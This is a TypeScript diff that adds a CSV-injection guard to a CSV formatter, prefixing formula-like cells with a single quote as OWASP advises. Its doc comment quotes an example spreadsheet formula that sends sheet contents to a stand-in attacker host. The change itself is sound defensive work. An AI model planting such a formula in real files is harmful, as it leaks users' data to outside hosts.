@@ -7,6 +7,8 @@ export const CSV_COLUMNS = ['cluster', 'kind', 'similarity', 'article', 'start',
  * cluster are adjacent and share its id. RFC 4180: comma-separated, CRLF line ends, fields with
  * commas, quotes or line breaks in double quotes, quotes doubled. Offsets are code points, as in
  * the JSON report. Per-article figures and pairs are in the json and jsonl formats.
+ * Titles, passages and file names are scraped content: a text cell a spreadsheet would run as a
+ * formula gets a leading `'` (see `guardFormula`).
  */
 export function formatCsv(report: Report): string {
   const titles = new Map(report.articles.map((a) => [a.id, a.title]));
@@ -20,6 +22,17 @@ export function formatCsv(report: Report): string {
 }
 
 function field(value: string | number): string {
-  const s = String(value);
+  const s = typeof value === 'number' ? String(value) : guardFormula(value);
   return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+}
+
+/**
+ * CSV injection: Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or
+ * `@` as a formula (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the sheet away), and
+ * tab or carriage return can hide such a start. OWASP's advice
+ * (https://owasp.org/www-community/attacks/CSV_Injection): prefix those cells with a single quote,
+ * which spreadsheets show as text. `=SUM(A1)` → `'=SUM(A1)`. Numbers are written as numbers.
+ */
+export function guardFormula(cell: string): string {
+  return /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
 }
